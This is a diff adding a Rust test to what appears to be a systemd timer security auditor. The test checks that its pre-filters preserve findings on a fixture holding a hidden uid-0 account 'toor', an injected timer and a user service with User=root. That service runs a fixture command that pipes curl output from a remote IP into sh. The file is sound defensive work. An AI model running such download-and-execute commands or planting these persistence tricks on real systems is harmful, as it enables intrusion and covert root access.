@@ -148,3 +148,78 @@ fn streamed_and_whole_host_reports_are_identical_on_a_corpus() {
     let reused = (o.status.code().unwrap(), o.stdout);
     assert!(kept == fresh && reused == fresh, "a cached report differs from the fresh one");
 }
+
+/// The timer pre-filters (`injected`, `trigger_problems`, `service_loads`, `inline_code`,
+/// `sets_user`, `state`, `never_elapses`) each let through every timer their policy
+/// reports: a fixture with a finding of each, checked with and without them.
+#[test]
+fn timer_pre_filters_keep_every_finding() {
+    let fx = Fx::new();
+    fx.debian_layout()
+        .file(
+            "/etc/passwd",
+            "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
+        )
+        .file("/etc/group", "root:x:0:\nalice:x:1000:\n");
+    let enable = |name: &str| {
+        fx.link(&format!("/etc/systemd/system/timers.target.wants/{name}"), &format!("../{name}"));
+    };
+    // TG305 uid0-alias: User= names another uid-0 account.
+    fx.file("/etc/systemd/system/hid.timer", &timer("daily"))
+        .file("/etc/systemd/system/hid.service", "[Service]\nUser=toor\nExecStart=/usr/bin/true\n");
+    enable("hid.timer");
+    // TG310 timer-injected: linked into timers.target.wants without an [Install] that says so.
+    fx.file("/etc/systemd/system/inj.timer", "[Timer]\nOnCalendar=daily\n")
+        .file("/etc/systemd/system/inj.service", &service("/usr/bin/true"));
+    enable("inj.timer");
+    // TG401 missing-unit, TG402 invalid-trigger, TG404 never.
+    fx.file(
+        "/etc/systemd/system/miss.timer",
+        "[Timer]\nOnCalendar=daily\nUnit=nothere.service\n[Install]\nWantedBy=timers.target\n",
+    );
+    enable("miss.timer");
+    fx.file(
+        "/etc/systemd/system/bad.timer",
+        "[Timer]\nOnCalendar=not-a-time\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
+    )
+    .file("/etc/systemd/system/bad.service", &service("/usr/bin/true"));
+    enable("bad.timer");
+    fx.file("/etc/systemd/system/never.timer", &timer("2001-01-01 00:00:00"))
+        .file("/etc/systemd/system/never.service", &service("/usr/bin/true"));
+    enable("never.timer");
+    // A user's unit with User=root (TG305) running an inline payload (TG303), and a
+    // transient user timer (TG204).
+    fx.file("/home/alice/.config/systemd/user/ur.timer", &timer("hourly"))
+        .file(
+            "/home/alice/.config/systemd/user/ur.service",
+            "[Service]\nUser=root\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/p | sh'\n",
+        )
+        .link("/home/alice/.config/systemd/user/timers.target.wants/ur.timer", "../ur.timer")
+        .file("/run/user/1000/systemd/transient/run-u1.timer", "[Timer]\nOnActiveSec=30\nUnit=run-u1.service\n")
+        .file("/run/user/1000/systemd/transient/run-u1.service", &service("/usr/bin/true"));
+    let a = report_with(fx.path(), &[]);
+    let unfiltered = report_with(fx.path(), &[("TIMERGUARD_NO_PREFILTER", "1")]);
+    assert!(
+        unfiltered == a,
+        "the pre-filters changed the report:\n{}\n---\n{}",
+        String::from_utf8_lossy(&a.1),
+        String::from_utf8_lossy(&unfiltered.1)
+    );
+    let v: serde_json::Value = serde_json::from_slice(&a.1).unwrap();
+    let found = policy_rule_subject(&v);
+    for (policy, rule, subject) in [
+        ("TG305", "uid0-alias", "hid.timer"),
+        ("TG305", "user-unit-user-root", "ur.timer"),
+        ("TG310", "timer-injected", "inj.timer"),
+        ("TG401", "missing-unit", "miss.timer"),
+        ("TG402", "invalid-trigger", "bad.timer"),
+        ("TG404", "never", "never.timer"),
+        ("TG303", "download-and-execute", "ur.timer"),
+        ("TG204", "transient", "run-u1.timer"),
+    ] {
+        assert!(
+            found.iter().any(|f| f.0 == policy && f.1 == rule && f.2 == subject),
+            "no {policy}/{rule} on {subject}: {found:?}"
+        );
+    }
+}
